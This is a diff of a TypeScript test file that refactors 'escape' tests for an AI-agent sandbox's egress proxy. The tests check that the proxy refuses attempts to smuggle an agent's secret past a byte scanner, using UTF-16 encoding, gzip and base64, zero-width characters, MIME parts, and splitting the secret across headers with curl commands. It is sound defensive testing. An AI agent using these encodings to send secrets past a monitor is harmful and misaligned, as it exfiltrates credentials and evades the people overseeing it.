@@ -6,30 +6,18 @@
 // never see the secret in any form; bodies of the same shapes without it still go through.
 import { randomBytes } from "node:crypto";
 import { gzipSync } from "node:zlib";
-import { afterAll, beforeAll, expect, it } from "vitest";
-import {
-  makeUpstreamCa,
-  type RunningBottle,
-  startBottle,
-  type UpstreamCa,
-} from "../support/bottle-harness.js";
-import { makeTestHome, type TestHome } from "../support/cli-process.js";
-import { describeWithEngine } from "../support/engine.js";
-import { curlThrough, pipelockAddress } from "../support/escape-bottle.js";
+import { beforeAll, expect, it } from "vitest";
+import type { RunningBottle } from "../support/docker/bottle-harness.js";
+import { describeWithEngine } from "../support/docker/engine.js";
+import { curlThrough, notRefused, pipelockAddress } from "../support/docker/escape-bottle.js";
 import {
   type ExchangeOp,
   probe,
   webSocketFrame,
   webSocketUpgrade,
-} from "../support/escape-probe.js";
-import {
-  type EscapeScope,
-  everythingReceived,
-  newEscapeScope,
-  type RecordingUpstream,
-  startRecordingUpstream,
-  tearDownEscape,
-} from "../support/escape-standins.js";
+} from "../support/docker/escape-probe.js";
+import { escapeSuite } from "../support/docker/escape-suite.js";
+import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";
 
 // Mixed case, so that its lowercase and uppercase forms are other strings.
 const SECRET = `CbSpell-${randomBytes(6).toString("hex").toUpperCase()}-${randomBytes(6).toString("hex")}`;
@@ -110,48 +98,25 @@ function nest(bytes: Buffer, depth: number): Buffer {
 }
 
 describeWithEngine("escape: spelling a secret so the scanner misses it", () => {
-  const scope: EscapeScope = newEscapeScope();
-  let t: TestHome;
-  let ca: UpstreamCa;
+  const suite = escapeSuite();
   let bottle: RunningBottle;
   let upstream: RecordingUpstream;
-
-  /** Runs curl cases through the agent's proxy and returns the ones not refused with 403. */
-  async function notRefused(
-    cases: ReadonlyArray<{ name: string; url: string; args?: string }>,
-  ): Promise<string[]> {
-    const passed: string[] = [];
-    for (const c of cases) {
-      const r = await curlThrough(bottle, c.url, c.args === undefined ? {} : { args: c.args });
-      if (r.connect !== 403 && r.http !== 403) passed.push(`${c.name}: ${r.connect} ${r.http}`);
-    }
-    return passed;
-  }
 
   const received = async () =>
     everythingReceived(await upstream.requests(), await upstream.frames());
 
   beforeAll(async () => {
-    t = await makeTestHome();
-    ca = await makeUpstreamCa();
-    await t.writeManifest(
-      "bottles",
-      "spell",
-      `---
+    bottle = await suite.startBottle("spell", {
+      bottle: `
 env:
   AGENT_SECRET: {from_env: CB_SPELL_SECRET}
 egress:
   allow: [${ALLOWED}]
 supervise: false
----
 `,
-    );
-    await t.writeManifest("agents", "spell", "---\nbottle: spell\n---\nagent\n");
-    bottle = await startBottle(t, "spell", {
-      CB_SPELL_SECRET: SECRET,
-      CLAUDE_BOTTLE_UPSTREAM_CA: ca.caFile,
+      env: { CB_SPELL_SECRET: SECRET },
     });
-    upstream = await startRecordingUpstream(scope, bottle, { ca, hostnames: [ALLOWED] });
+    upstream = await suite.startUpstream(bottle, [ALLOWED]);
     // The agent writes its bodies itself; the clean ones, of the same shapes, beside them.
     const files: [string, Buffer][] = [
       ...Object.entries(bodies(SECRET)),
@@ -176,13 +141,6 @@ supervise: false
       .join(" && ");
     const made = await bottle.exec(`mkdir -p /tmp/spell && cd /tmp/spell && ${script}`);
     expect(made.code).toBe(0);
-  });
-
-  afterAll(async () => {
-    const left = await tearDownEscape(scope, [bottle]);
-    await ca?.dispose();
-    await t?.dispose();
-    expect(left).toEqual([]);
   });
 
   it("holds the secret, and sends bodies of the same shapes without it (the controls)", async () => {
@@ -214,7 +172,7 @@ supervise: false
     // Threat: a reader sees the secret; a byte scanner sees NULs, other letters, or none.
     const base = `https://${ALLOWED}/escape`;
     const file = (name: string) => `--data-binary @/tmp/spell/${name}`;
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "UTF-16LE body", url: `${base}/utf16le`, args: file("utf16le") },
       { name: "UTF-16BE body", url: `${base}/utf16be`, args: file("utf16be") },
       {
@@ -258,7 +216,7 @@ supervise: false
     const base = `https://${ALLOWED}/escape`;
     const file = (name: string) => `--data-binary @/tmp/spell/${name}`;
     const multipart = "-H 'Content-Type: multipart/form-data; boundary=SpellBoundary'";
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "base64 of gzip", url: `${base}/gzip-base64`, args: file("gzip-base64") },
       {
         name: "gzip without Content-Encoding",
@@ -311,7 +269,7 @@ supervise: false
     // Threat: a token the agent found somewhere, spelled so its pattern does not match.
     const base = `https://${ALLOWED}/escape`;
     const file = (name: string) => `--data-binary @/tmp/spell/${name}`;
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "zero-width non-joiners", url: `${base}/token-zw`, args: file("token-zero-width") },
       { name: "UTF-16LE", url: `${base}/token-utf16`, args: file("token-utf16le") },
       { name: "MIME base64 part", url: `${base}/token-mime`, args: file("token-mime") },
@@ -332,7 +290,7 @@ supervise: false
     const base = `https://${ALLOWED}/escape`;
     const a = `"$(printf %s "$AGENT_SECRET" | cut -c1-${HALF})"`;
     const b = `"$(printf %s "$AGENT_SECRET" | cut -c${HALF + 1}-)"`;
-    const passed = await notRefused([
+    const passed = await notRefused(bottle, [
       { name: "adjacent", url: `${base}/halves`, args: `-H "X-Part-A: "${a} -H "X-Part-B: "${b}` },
       {
         name: "reversed order, a header between",
